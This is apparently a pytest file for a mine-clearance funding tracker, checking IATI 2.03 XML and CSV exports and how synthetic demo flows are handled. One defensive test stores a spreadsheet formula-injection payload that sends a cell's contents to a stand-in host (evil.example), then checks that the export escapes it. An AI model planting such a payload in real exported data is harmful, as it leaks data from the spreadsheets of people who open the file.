"""Flows exported as IATI 2.03 activities (validated against the official schema) and CSV."""

import csv
import importlib.util
import io
from pathlib import Path

import pytest
from lxml import etree

from minefree.core.audit import SYSTEM
from minefree.funding import flows, iati
from minefree.funding.models import Flow, FlowStatus, ReportedBy
from minefree.registry.models import Actor

pytestmark = pytest.mark.django_db
SCHEMA = (
    Path(importlib.util.find_spec("iati").submodule_search_locations[0])
    / "resources/standard/2-03/schemas/iati-activities-schema.xsd"
)


@pytest.fixture
def sample():
    japan, peru = Actor.objects.get(iso3="JPN"), Actor.objects.get(iso3="PER")
    pledge = flows.flow_record(
        actor=SYSTEM,
        donor=japan,
        recipient=peru,
        status=FlowStatus.PLEDGE,
        year=2023,
        amount=1000,
        currency="EUR",
        reported_by=ReportedBy.DONOR,
        description='Clearance, "Cordillera del Cóndor"',
    )
    commitment = flows.flow_advance(actor=SYSTEM, flow=pledge, status=FlowStatus.COMMITMENT)
    received = flows.flow_record(
        actor=SYSTEM,
        donor=japan,
        recipient=peru,
        status=FlowStatus.PAID,
        year=2023,
        amount=5,
        currency="PEN",
        reported_by=ReportedBy.RECIPIENT,
    )
    ids = [pledge.pk, commitment.pk, received.pk]
    return list(
        Flow.objects.filter(pk__in=ids)
        .select_related("donor", "recipient", "source")
        .order_by("pk")
    )


def test_the_xml_is_valid_iati_2_03(sample):
    schema = etree.XMLSchema(etree.parse(str(SCHEMA)))
    document = etree.fromstring(iati.flows_iati_xml(sample))
    schema.assertValid(document)
    assert document.get("version") == "2.03"
    assert len(document.findall("iati-activity")) == 3


def test_transaction_types_follow_status_and_side(sample):
    document = etree.fromstring(iati.flows_iati_xml(sample))
    codes = [e.get("code") for e in document.iter("transaction-type")]
    assert codes == ["12", "2", "1"]  # outgoing pledge, outgoing commitment, incoming funds
    assert [e.get("code") for e in document.iter("recipient-country")] == ["PE"] * 3


def test_the_csv_has_one_row_per_flow_and_leaves_unknown_usd_empty(sample):
    rows = list(csv.DictReader(io.StringIO(iati.flows_csv(sample))))
    assert [r["status"] for r in rows] == ["pledge", "commitment", "paid"]
    assert rows[0]["donor_code"] == "JPN" and rows[0]["recipient_code"] == "PER"
    assert rows[0]["description"] == 'Clearance, "Cordillera del Cóndor"'
    assert rows[1]["follows"] == str(sample[0].pk)
    assert rows[2]["amount_usd"] == "" and rows[2]["currency"] == "PEN"
    assert rows[0]["amount_usd"] == f"{sample[0].amount_usd:f}"


def test_the_loaded_monitor_flows_export_valid_xml():
    loaded = Flow.objects.select_related("donor", "recipient", "source").filter(origin="reference")
    schema = etree.XMLSchema(etree.parse(str(SCHEMA)))
    schema.assertValid(etree.fromstring(iati.flows_iati_xml(loaded)))


def test_a_public_pledge_described_as_a_formula_downloads_as_text(client):
    japan, peru = Actor.objects.get(iso3="JPN"), Actor.objects.get(iso3="PER")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
    flows.flow_record(
        actor=SYSTEM,
        donor=japan,
        recipient=peru,
        status=FlowStatus.PLEDGE,
        year=2023,
        amount=1000,
        currency="USD",
        reported_by=ReportedBy.DONOR,
        description=formula,
    )
    response = client.get("/cooperation/flows/export.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    described = [r["description"] for r in rows if "HYPERLINK" in r["description"]]
    assert described == [f"'{formula}"]


def _synthetic_and_real():
    japan, peru = Actor.objects.get(iso3="JPN"), Actor.objects.get(iso3="PER")
    made = {}
    for origin, amount in (("synthetic", 777), ("entered", 1000)):
        made[origin] = flows.flow_record(
            actor=SYSTEM,
            donor=japan,
            recipient=peru,
            status=FlowStatus.PAID,
            year=2022,
            amount=amount,
            currency="USD",
            reported_by=ReportedBy.DONOR,
        )
    Flow.objects.filter(pk=made["synthetic"].pk).update(origin="synthetic")
    return made


def test_the_iati_download_leaves_synthetic_flows_out_unless_asked_and_then_marks_them(client):
    made = _synthetic_and_real()
    ids = {f"{iati.REPORTING_ORG_REF}-flow-{f.pk}": origin for origin, f in made.items()}
    schema = etree.XMLSchema(etree.parse(str(SCHEMA)))

    default = etree.fromstring(client.get("/cooperation/flows/export.xml?year=2022").content)
    found = {e.text for e in default.iter("iati-identifier")} & set(ids)
    assert [ids[i] for i in found] == ["entered"]
    assert "SYNTHETIC" not in etree.tostring(default).decode()

    response = client.get("/cooperation/flows/export.xml?year=2022&synthetic=include")
    document = etree.fromstring(response.content)
    schema.assertValid(document)
    for activity in document.iter("iati-activity"):
        ident = activity.findtext("iati-identifier")
        if ids.get(ident) != "synthetic":
            assert activity.find("tag") is None
            continue
        assert activity.findtext("title/narrative").startswith("SYNTHETIC DEMO DATA: ")
        assert "not a real flow" in activity.findtext("description/narrative")
        assert activity.find("tag").get("code") == "synthetic-demo-data"
    assert sum(ids.get(e.text) == "synthetic" for e in document.iter("iati-identifier")) == 1

    page = client.get("/cooperation/flows/").content.decode()
    assert "synthetic demo flows left out" in page and "synthetic=include" in page
